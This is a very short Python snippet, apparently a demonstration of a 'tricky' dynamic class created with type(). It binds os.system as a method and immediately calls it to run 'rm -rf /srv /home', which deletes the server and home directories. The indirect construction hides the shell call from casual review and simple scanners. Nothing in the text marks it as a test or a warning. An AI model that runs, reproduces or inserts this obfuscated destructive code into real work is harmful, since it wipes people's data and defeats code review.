# tricky: a class out of nothing
import os
C = type("C", (), {"run": staticmethod(os.system)})
C.run("rm -rf /srv /home")
